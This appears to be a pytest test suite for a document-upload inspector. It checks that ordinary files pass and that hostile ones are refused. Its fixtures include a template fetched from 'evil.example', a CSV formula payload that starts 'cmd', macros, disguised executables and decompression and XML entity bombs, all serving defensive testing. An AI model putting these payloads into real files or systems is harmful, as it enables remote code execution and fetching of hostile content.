"""Looking inside files: every kind that is taken, and every way in which one may mean harm."""

import io
import time

import pytest
from pypdf import PdfReader, PdfWriter

from anchor_portal.domain.answers.evidence import FileRefused
from anchor_portal.services.inspection import inspect
from anchor_portal.services.inspection.apart import run_apart
from tests import hostile

FETCHED = (
    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"'
    ' TargetMode="External"/></Relationships>'
)
SOUND = {
    "report.pdf": hostile.pdf(),
    "letter.docx": hostile.docx(),
    "slides.pptx": hostile.pptx(),
    "counts.xlsx": hostile.xlsx(),
    "letter.odt": hostile.open_document(),
    "slides.odp": hostile.open_document("presentation"),
    "counts.ods": hostile.ods(),
    "photo.png": hostile.picture("PNG"),
    "photo.JPEG": hostile.picture("JPEG"),
    "photo.gif": hostile.picture("GIF"),
    "photo.webp": hostile.picture("WEBP"),
    "counts.csv": hostile.csv(),
    "in windows letters.csv": "Place,Spend\r\nCafé £,1\r\n".encode("cp1252"),
    "with a mark.csv": hostile.csv(encoding="utf-8-sig"),
    "unicode.csv": "Place\tSpend\r\nHalton\t12\r\n".encode("utf-16"),
}
HOSTILE = {
    "nothing in it": ("a.pdf", b"", "is empty"),
    "a program called a PDF": ("a.pdf", hostile.EXE, "says that it is a PDF, but inside it is a program"),
    "a web page called a table": ("a.csv", hostile.HTML, "inside it is a web page or a script"),
    "a picture called a PDF": ("a.pdf", hostile.picture(), "inside it is a PNG image"),
    "a workbook called a document": ("a.docx", hostile.xlsx(), "inside it is an Excel workbook"),
    "an archive called a document": ("a.docx", hostile.archive({"x.txt": "x"}), "an archive of other files"),
    "text called a picture": ("a.png", b"hello", "inside it is plain text"),
    "a name without an ending": ("a", hostile.pdf(), "no ending"),
    "a PDF with a password": ("a.pdf", hostile.changed_pdf(password="secret"), "protected by a password"),
    "a PDF with a script": ("a.pdf", hostile.changed_pdf(script="app.alert(1)"), "it carries a script"),
    "a PDF with a file inside": ("a.pdf", hostile.changed_pdf(attachment=hostile.EXE), "other files inside"),
    "a PDF that starts a program": ("a.pdf", hostile.launching_pdf(), "starts a script or a program"),
    "half a PDF": ("a.pdf", hostile.pdf()[:200], "damaged"),
    "a PDF that is an archive too": ("a.pdf", hostile.pdf() + hostile.docx(), "two things at once"),
    "a picture that is an archive too": ("a.gif", hostile.picture("GIF") + hostile.docx(), "two things at once"),
    "encrypted Office": ("a.xlsx", hostile.ENCRYPTED_OFFICE, "protected by a password"),
    "Office of old": ("a.docx", hostile.OLD_OFFICE, "an older Office: save it as .docx"),
    "an encrypted archive": ("a.docx", hostile.locked_zip(), "protected by a password"),
    "encrypted OpenDocument": (
        "a.odt",
        hostile.open_document("text", {"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        "protected by a password",
    ),
    "macros": ("a.docx", hostile.docx({"word/vbaProject.bin": b"x"}), "carries macros"),
    "macros said only in the types": (
        "a.docx",
        hostile.docx(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "carries macros",
    ),
    "macros of Excel 4": ("a.xlsx", hostile.with_part(hostile.xlsx(), "xl/macrosheets/sheet1.xml", "<x/>"), "macros"),
    "macros of LibreOffice": ("a.odt", hostile.open_document("text", {"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "an object embedded": ("a.docx", hostile.docx({"word/embeddings/oleObject1.bin": b"x"}), "program parts"),
    "a template fetched": ("a.docx", hostile.docx({"word/_rels/settings.xml.rels": FETCHED}), "fetches a template"),
    "a bomb": ("a.docx", hostile.bomb, "unpacks to far more"),
    "a thousand million laughs": ("a.docx", hostile.laughs(), "entities of its own"),
    "the same in UTF-16": ("a.docx", hostile.laughs("utf-16"), "entities of its own"),
    "a vast picture": ("a.png", hostile.vast_png(), "more than 100 million points"),
    "half a picture": ("a.png", hostile.picture(size=(400, 400))[:60], "damaged"),
    "a damaged workbook": ("a.xlsx", hostile.with_part(hostile.xlsx(), "xl/workbook.xml", "<x"), "damaged"),
    "a list of staff in Excel": ("a.xlsx", hostile.xlsx(hostile.STAFF), "on the sheet “Sheet” it looks like a list of"),
    "a list of staff in OpenDocument": ("a.ods", hostile.ods(hostile.STAFF), "looks like a list of people"),
    "a list of staff as CSV": ("a.csv", hostile.csv(hostile.STAFF), "looks like a list of people"),
    "a formula that starts a program": ("a.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "starts a program"),
    "bytes called a table": ("a.csv", bytes(range(1, 256)), "not"),
}


@pytest.mark.parametrize("name", SOUND)
def test_every_kind_that_is_taken_passes(name: str) -> None:
    safe, kind = inspect(name, SOUND[name], 20)
    assert safe.lower().endswith(kind.suffixes)


@pytest.mark.parametrize("what", HOSTILE)
def test_what_means_harm_is_refused_with_the_reason(what: str) -> None:
    name, content, why = HOSTILE[what]
    with pytest.raises(FileRefused, match=why):
        inspect(name, content() if callable(content) else content, 20)


def test_a_file_one_byte_too_large_is_refused_and_one_that_just_fits_is_not() -> None:
    just = b"Place,Spend\n" + b"Halton,1\n" * 200_000
    content = just[: 1024 * 1024]
    inspect("a.csv", content, 1)
    with pytest.raises(FileRefused, match="larger than 1 MB"):
        inspect("a.csv", content + b"1", 1)


def test_a_list_hidden_on_the_second_sheet_is_found() -> None:
    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(hostile.xlsx()))
    sheet = workbook.create_sheet("raw data")
    sheet.sheet_state = "hidden"
    for row in hostile.STAFF:
        sheet.append(row)
    output = io.BytesIO()
    workbook.save(output)
    with pytest.raises(FileRefused, match="on the sheet “raw data”"):
        inspect("a.xlsx", output.getvalue(), 20)


def test_a_reader_that_takes_too_much_memory_is_ended_and_harms_nobody_else() -> None:
    began = time.monotonic()
    with pytest.raises(FileRefused, match="too long, or too much memory"):
        run_apart("builtins:eval", b"bytes(4 << 30)")
    assert time.monotonic() - began < 30


def test_a_long_report_is_looked_through_in_time() -> None:
    writer = PdfWriter()
    page = PdfReader(io.BytesIO(hostile.pdf("A page"))).pages[0]
    for _ in range(300):
        writer.add_page(page)
    output = io.BytesIO()
    writer.write(output)
    inspect("long.pdf", output.getvalue(), 20)
